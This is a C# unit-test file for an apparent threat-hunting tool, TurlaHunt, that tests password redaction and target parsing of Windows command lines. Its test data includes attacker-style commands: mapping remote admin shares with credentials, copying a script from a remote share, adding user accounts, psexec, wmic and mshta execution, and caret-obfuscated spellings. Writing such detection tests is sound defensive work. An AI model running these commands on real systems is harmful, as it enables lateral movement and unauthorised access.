using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.Text;
using TurlaHunt.Hunting.CommandLines;
using Xunit;

namespace TurlaHunt.Tests.Hunting.CommandLines;

public sealed class RedactionTests
{
    // S3cret stands for the secret; every occurrence must go, and nothing else may change.
    [Theory]
    [InlineData(@"cmd.exe /c net use \\197.168.0.247\c$ S3cret /user:administrator & copy /y \\197.168.0.247\c$\i.js j.js")]
    [InlineData(@"net  use \\1.2.3.4\c$ S3cret /user:a ")]
    [InlineData(@"net use \\1.2.3.4\c$ /user:a S3cret")]
    [InlineData(@"net use /user:a S3cret \\1.2.3.4\c$")]
    [InlineData(@"net use /user:a \\1.2.3.4\c$ S3cret /p:n")]
    [InlineData(@"NET1 USE * \\nas\x ""S3cret"" /SAVECRED")]
    [InlineData(@"net use x: S3cret /home")]
    [InlineData(@"net use %SHARE% S3cret /user:x")]
    [InlineData(@"cmd /c ""net use \\a\b ""S3cret"" /u:x""")]
    [InlineData(@"cmd /c ""net use \\a\b S3cret"" & echo done")]
    [InlineData(@"cmd /c net use \\a\b S3cret>nul 2>&1")]
    [InlineData(@"cmd /c net use \\a\b S3cret&whoami")]
    [InlineData(@"net use \\a\b S3cret>nul 2>&1")]
    [InlineData(@"cmd /c n^et us^e \\a\b S3cret")]
    [InlineData(@"cmd /c (net use \\a\b S3cret)")]
    [InlineData(@"net use \\a\b S3cret&&net use \\c\d S3cret||net user bob S3cret /add")]
    [InlineData(@"net use http://u:S3cret@host/x S3cret")]
    [InlineData(@"cmd /c cmd /c cmd /c net use \\a\b S3cret")]
    [InlineData(@"powershell -c ""net use \\a\b 'S3cret'; dir""")]
    [InlineData(@"powershell -c {net use \\a\b S3cret}")]
    [InlineData(@"powershell Start-Process net -ArgumentList 'use \\a\b S3cret'")]
    [InlineData(@"schtasks /create /ru x /rp S3cret /tr ""cmd /c net use \\a\b S3cret"" /tn y")]
    [InlineData(@"echo net use \\a\b S3cret >> logon.bat")]
    [InlineData(@"net user bob S3cret /add")]
    [InlineData(@"net1 user /add bob ""S3cret"" /domain")]
    [InlineData(@"cmdkey /add:x /user:y /pass:S3cret")]
    [InlineData(@"cmdkey /add:x /user:y /pass:""S3cret""")]
    [InlineData(@"cmdkey /add:x /user:y /pass S3cret")]
    [InlineData(@"psexec \\x -u y -p S3cret cmd /c net use \\a\b S3cret")]
    [InlineData(@"wmic /node:x /user:y /password:""S3cret"" process list")]
    [InlineData(@"cmd /c for %i in (a b) do net use \\a\b S3cret")]
    [InlineData(@"cmd /c for /f ""tokens=*"" %a in ('net use \\a\b S3cret') do @echo %a")]
    [InlineData(@"wmic process call create 'cmd /c net use \\a\b S3cret'")]
    [InlineData(@"schtasks /create /tn x /tr ""cmd /c net use \\a\b \""S3cret\"" /user:x""")]
    [InlineData(@"powershell -c ""net use \\a\b \""S3cret\"" /user:a""")]
    [InlineData(@"powershell -c ""cmd /c 'net use \\a\b S3cret'""")]
    [InlineData(@"powershell -c ""cmd.exe /c \""net use \\a\b S3cret\""""")]
    [InlineData(@"powershell New-SmbMapping -RemotePath \\a\b -UserName x -Password S3cret")]
    [InlineData(@"powershell -c ""$p=ConvertTo-SecureString 'S3cret' -AsPlainText -Force""")]
    [InlineData(@"python -c ""import os;os.system('net use \\a\b S3cret')""")]
    [InlineData(@"mshta vbscript:CreateObject(""WScript.Shell"").Run(""net use \\a\b S3cret /user:a"",0)(window.close)")]
    [InlineData(@"sc config x obj= .\bob password= S3cret start= auto")]
    [InlineData(@"plink -ssh x -l y -pw S3cret")]
    [InlineData(@"reg add HKCU\x /v y /d ""cmd /c net use \\a\b S3cret""")]
    [InlineData(@"forfiles /m x /c ""cmd /c net use \\a\b S3cret""")]
    [InlineData(@"cmd /c for %i in (a) do @net use \\a\b S3cret")]
    [InlineData(@"cmd /c echo S3cret| net use \\a\b * /user:x")]
    [InlineData(@"cmd.exe /c ""echo S3cret|net use \\a\b /user:x""")]
    [InlineData(@"cmd /c echo.S3cret | net use \\a\b *")]
    [InlineData(@"cmd /c (echo S3cret) | (net use \\a\b *)")]
    [InlineData(@"cmd /c echo hi & echo S3cret|cmd /c net use \\a\b *")]
    [InlineData(@"powershell -c ""'S3cret' | net use \\a\b *""")]
    [InlineData(@"powershell -c ""Write-Output S3cret | net use \\a\b *""")]
    [InlineData(@"C:\Users\Public\n.exe use \\198.51.100.7\c$ S3cret /user:x")]
    [InlineData(@"""C:\Users\Public\n.exe"" use z: \\198.51.100.7\c$ /USER:x S3cret")]
    public void Only_the_password_goes(string line)
    {
        string redacted = CommandLine.Redact(line);
        Assert.Equal(line.Replace("S3cret", "********"), redacted);
        Assert.Equal(redacted, CommandLine.Redact(redacted));
    }

    [Theory]
    [InlineData(@"net use \\a\b ""pass \""word"" /user:x", @"net use \\a\b ""********"" /user:x")]
    [InlineData(@"net use \\a\b pa""s s""wd /user:x", @"net use \\a\b ******** /user:x")]
    [InlineData(@"net use \\a\b pa""ss wd /user:x", @"net use \\a\b ******** ******** /user:x")]
    [InlineData(@"net use \\a\b P@ss&word /user:x", @"net use \\a\b ******** /user:x")]
    [InlineData(@"net use \\a\b pa|ss>wd /user:x", @"net use \\a\b ******** /user:x")]
    [InlineData(@"net use \\a\b <user_pass_here> /user:x", @"net use \\a\b ******** /user:x")]
    [InlineData(@"cmd /c net use \\a\b p^&ss /user:x", @"cmd /c net use \\a\b ******** /user:x")]
    [InlineData(@"net use \\a\b /s3cret /user:x", @"net use \\a\b ******** /user:x")]
    [InlineData(@"net use \\a\b -s3cret one two", @"net use \\a\b ******** ******** ********")]
    [InlineData(@"cmd /c set p=s3cret&&call net use \\a\b %p% /user:x", @"cmd /c set p=********&&call net use \\a\b %p% /user:x")]
    [InlineData(@"cmd /v /c ""set ""p=s3cret""&net use \\a\b !p!""", @"cmd /v /c ""set ""p=********""&net use \\a\b !p!""")]
    [InlineData(@"cmd /c set p=s3cret&call net use \\a\b one%p%two", @"cmd /c set p=********&call net use \\a\b ********%p%********")]
    [InlineData(@"powershell -c ""$p = 's3cret'; net use \\a\b $p /user:x""", @"powershell -c ""$p = '********'; net use \\a\b $p /user:x""")]
    [InlineData(@"powershell $n.MapNetworkDrive('Z:','\\a\b',0,'u','s3cret')", @"powershell $n.MapNetworkDrive('Z:','\\a\b',0,'u','********')")]
    [InlineData(@"powershell $n.MapNetworkDrive('Z:', '\\a\b', 0, 'u', 's3cret')", @"powershell $n.MapNetworkDrive('Z:', '\\a\b', 0, 'u', '********')")]
    [InlineData(@"powershell [Net.NetworkCredential]::new('u','s3cret')", @"powershell [Net.NetworkCredential]::new('u','********')")]
    [InlineData(@"net use \\a\b \\pass", @"net use \\a\b ********")]
    [InlineData(@"cmd /c ""net use ""\\a\b\"" pass""", @"cmd /c ""net use ""\\a\b\"" ********""")]
    public void What_is_in_doubt_goes_too(string line, string expected)
    {
        Assert.Equal(expected, CommandLine.Redact(line));
        Assert.Equal(expected, CommandLine.Redact(expected));
    }

    [Theory]
    [InlineData(@"net use \\a\b * /user:x")]
    [InlineData(@"net use Z: \\a\b /persistent:no /y")]
    [InlineData(@"net use \\a\b """" /user:""""")]
    [InlineData(@"net use \\a\b Z:")]
    [InlineData("net user bob * /add")]
    [InlineData("net user bob /delete")]
    [InlineData("net group x bob /add")]
    [InlineData("cmdkey /add:x /user:y /pass")]
    [InlineData(@"robocopy a b -p secret")]
    [InlineData(@"dotnet use \\a\b word")]
    [InlineData(@"cmd /c echo word & net use \\a\b *")]
    [InlineData(@"cmd /c echo word || net use \\a\b *")]
    [InlineData(@"cmd /c echo word | find ""w"" & net use \\a\b *")]
    [InlineData(@"cmd /c echo word | more")]
    [InlineData(@"tool.exe use \\a\b word")]
    public void A_line_without_a_secret_stays_as_it_is(string line) => Assert.Equal(line, CommandLine.Redact(line));

    [Theory]
    [InlineData(@"cmd /c echo S3cret| net use \\198.51.100.7\c$ * /user:x", true)]
    [InlineData(@"cmd /c echo S3cret& net use \\198.51.100.7\c$ * /user:x", false)]
    public void A_password_from_a_pipe_is_one_on_the_line(string line, bool expected) =>
        Assert.Equal(expected, CommandLine.Read(line).HasPassword);

    [Fact]
    public void No_field_shows_a_password()
    {
        CommandLine line = CommandLine.Read(@"net use https://u:S3cret@h/x ""S3cret"" /user:bob & net use ""\\a\b S3cret");
        StringBuilder shown = new(line.ToString());
        foreach (NetUseCommand command in line.NetUses)
        {
            shown.Append(command.Device).Append(command.UserName).Append(command.Target).Append(command.Target?.Network?.Typed);
        }

        shown.Append(string.Join("", line.Reasons));
        Assert.DoesNotContain("S3cret", shown.ToString());
    }

    [Fact]
    public void Hostile_lines_end_quickly_and_never_throw()
    {
        const int Size = 1_000_000;
        const int Some = 40_000;
        List<string> lines =
        [
            new('^', Size), new('"', Size), new('\\', Size), new('/', Size), new('&', Some), new('(', Some), new('<', Some),
            new(' ', Some), new('%', Some), new('`', Some), new('\n', Some), new('>', Some),
            Repeat("cmd /c ", Some), Repeat("cmd /c \"", Some), Repeat("net use ", Some), Repeat("\\\\a\\b,", Some),
            Repeat("=\\\\", Some), Repeat("\\\"", Some), Repeat("powershell ", Some), Repeat("< ", Some), Repeat("a&b", Some),
            Repeat("cmd /a ", Some), Repeat("\"a b\" ", Some), Repeat("(\"", Some), Repeat("net use \\\\1.1.1.1\\x p&", Some),
            Repeat("set a=%a%%a%&", Some), Repeat("set a=b&%a%", Some), Repeat("$a=", Some), Repeat("$a=$a;", Some), Repeat("%a:~1", Some),
            "set a=b&" + new string('%', Some), "set a=b&" + Repeat("%a:b=", Some), Repeat("MapNetworkDrive(,,,,", Some),
            Repeat("powershell -enc ", Some), "powershell -enc " + new string('A', Some), Repeat("-e", Some),
            Repeat("powershell \"", Some), Repeat("//1.1.1.1/", Some), Repeat("<a>", Some), Repeat("\n^", Some),
            "net use \\\\" + new string('1', Size) + "\\x", "net use http://" + new string('@', Size),
            "net use \\\\[" + new string(':', Size), "net use /" + new string('u', Size),
        ];
        foreach (string line in lines)
        {
            foreach (string prefix in new[] { "", "cmd /c ", "powershell -c \"" })
            {
                Stopwatch watch = Stopwatch.StartNew();
                Assert.NotNull(CommandLine.Read(prefix + line));
                Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), prefix + line.Substring(0, 20) + watch.Elapsed);
            }
        }
    }

    [Fact]
    public void A_thousand_shells_deep_the_password_still_goes()
    {
        string line = Repeat("cmd /c ", 7000) + @"net use \\8.8.8.8\c$ S3cret /user:x";
        CommandLine read = CommandLine.Read(line);
        Assert.Equal(LineVerdict.PublicShare, read.Verdict);
        Assert.DoesNotContain("S3cret", read.Redacted);
    }

    [Fact]
    public void Redaction_of_random_lines_is_idempotent()
    {
        string[] parts =
        [
            "net", "use", "net use", "cmd /c", "powershell -c", "\\\\8.8.8.8\\c$", "S3cret", "\"", "'", "^", "&", "|", "(", ")",
            ">", "<", "/user:bob", "/user:", "*", "X:", " ", " ", " ", " ", "\\", "\\\"", "echo", "`", ";", "{", "}", "\t", "%x%",
        ];
        Random random = new(20190715);
        for (int round = 0; round < 20_000; round++)
        {
            StringBuilder text = new();
            for (int i = random.Next(4, 24); i > 0; i--)
            {
                text.Append(parts[random.Next(parts.Length)]).Append(random.Next(3) == 0 ? " " : "");
            }

            string once = CommandLine.Redact(text.ToString());
            Assert.Equal(once, CommandLine.Redact(once));
        }
    }

    [Fact]
    public void No_combination_of_spellings_leaks_or_hides_the_target()
    {
        string[] contexts =
        [
            "{0}", "cmd /c {0}", "cmd.exe /q /v:on /c \"{0}\"", "%COMSPEC% /c whoami & {0} & del x", "cmd /c ({0}) && a.js",
            "cmd /c start /b {0}", "cmd /c \"cmd /k {0}\"", "cmd /c if exist x ({0}) else b", "cmd /c {0} > nul 2>&1",
        ];
        string[] programs = ["net use", "NET1.EXE  use", "n^et\tu^se", "n\"e\"t \"use\"", "C:\\Windows\\SysWOW64\\net.exe use"];
        string[] hosts = ["8.8.8.8", "134744072", "0x8.8.8.8", "8.8.8.8@SSL@443", "--ffff-808-808.ipv6-literal.net"];
        string[] passwords = ["S3cret", "\"S3cret\"", "S3c\"ret\"", "S^3cret", "<S3cret>", "-S3cret", "/S3cret", "\"S3cret &|<> x\""];
        string[] orders = ["{0} {1} {2} /user:bob", "{0} {1} /u:bob {2}", "{0} Z: {1} {2} /p:n", "{0} /user:bob {1} {2}"];
        foreach (string context in contexts)
        {
            foreach (string program in programs)
            {
                foreach (string order in orders)
                {
                    for (int i = 0; i < hosts.Length * passwords.Length; i++)
                    {
                        string path = "\\\\" + hosts[i % hosts.Length] + "\\c$";
                        string use = string.Format(null, order, program, path, passwords[i / hosts.Length]);
                        string line = string.Format(null, context, use);
                        CommandLine read = CommandLine.Read(line);
                        Assert.True(read.Verdict == LineVerdict.PublicShare, line);
                        Assert.True(read.Targets[0].Host == "8.8.8.8" && read.Targets[0].Share == "c$", line);
                        Assert.True(!read.Redacted.Contains("cret") && !read.Redacted.Contains("S3"), line + read.Redacted);
                        Assert.Equal(read.Redacted, CommandLine.Redact(read.Redacted));
                    }
                }
            }
        }
    }

    private static string Repeat(string text, int length)
    {
        StringBuilder repeated = new(length + text.Length);
        while (repeated.Length < length)
        {
            repeated.Append(text);
        }

        return repeated.ToString();
    }
}
